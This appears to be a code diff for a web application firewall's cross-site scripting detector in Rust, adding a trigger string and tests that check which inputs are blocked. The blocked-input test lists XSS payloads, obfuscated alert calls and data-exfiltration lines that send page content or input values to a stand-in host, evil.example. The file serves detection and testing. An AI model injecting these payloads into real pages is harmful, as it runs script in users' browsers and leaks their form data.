@@ -29,6 +29,7 @@ pub(super) const TRIGGERS: &[&str] = &[
     "expression(",
     "expr/*",
     "-moz-binding",
+    "[value",
     "srcdoc",
     "formaction",
     "[]",
@@ -127,4 +128,81 @@ pub(super) fn detect(text: &Text<'_>, hits: &mut Vec<Hit>) {
     style::detect(text.lower, hits);
     url::detect(text.lower, hits);
     script::detect(text.lower, hits);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn stops(text: &str) -> bool {
+        let mut hits = Vec::new();
+        let lower = text.to_ascii_lowercase();
+        let text = Text {
+            lower: lower.as_bytes(),
+            part: Part::Form,
+            name: "",
+        };
+        detect(&text, &mut hits);
+        hits.iter()
+            .any(|hit| hit.rule.severity == crate::waf::Severity::Critical)
+    }
+
+    #[test]
+    fn what_could_act_is_found() {
+        for text in [
+            "<svg\x0conload=alert(1)",
+            "<img src='x'onerror=alert(1)>",
+            "<x onclick=alert(1)>",
+            "\" autofocus onfocus=alert(1) x=\"",
+            "x onmouseover=alert(1)",
+            "';alert(1)//",
+            "\\\"-alert(1)//",
+            "*/alert(1)/*",
+            "hello ${alert(1)}",
+            "x=\"alert(1)\"",
+            "setTimeout`alert`",
+            "a=alert,a(1)",
+            "onerror=eval;throw'=alert'",
+            "[1].find(alert)",
+            "window['al'+'ert'](1)",
+            "[x](java\tscript:alert(1))",
+            "<base href=//evil.example>",
+            "<meta http-equiv=refresh content=0>",
+            "<img src='//evil.example/?",
+            "<form id=x><input id=attributes>",
+            "input[value^=a]{background:url(//evil.example/a)}",
+            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9",
+        ] {
+            assert!(stops(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_could_not_is_not() {
+        for text in [
+            "<p>Note: on = yes, only = 5, <b>onset</b> = 3</p>",
+            "Vec<Script>, Map<String, Object> and ::<Script>::new()",
+            "put it between <script> and </script> tags",
+            "Using onclick=\"foo()\" in HTML is considered bad practice",
+            "button.onclick = function () { show(); };",
+            "<button onClick={() => setCount(count + 1)}>Clicked</button>",
+            "<Button android:onClick=\"send\" />",
+            "https://maps.example/js?onload=ready&render=explicit",
+            "Don't call alert('x') in a loop",
+            "eval() is evil, do not use it",
+            "a medical alert(s) was issued",
+            "How can I read document.cookie in React?",
+            "window.location.href is read-only in my test",
+            "setTimeout(() => setOpen(false), 3000);",
+            "`setTimeout` and `setInterval` and `alert`",
+            "<a href=\"javascript:void(0)\">More</a>",
+            "<a onclick=\"return confirm('Delete it?')\">x</a>",
+            "<meta charset=\"utf-8\"><link rel=\"icon\" href=\"/favicon.ico\">",
+            "<iframe src=\"https://www.youtube.com/embed/abc\"></iframe>",
+            "background: url(data:image/svg+xml;base64,PHN2Zy8+)",
+            "level=alert,priority=high",
+        ] {
+            assert!(!stops(text), "{text}");
+        }
+    }
 }
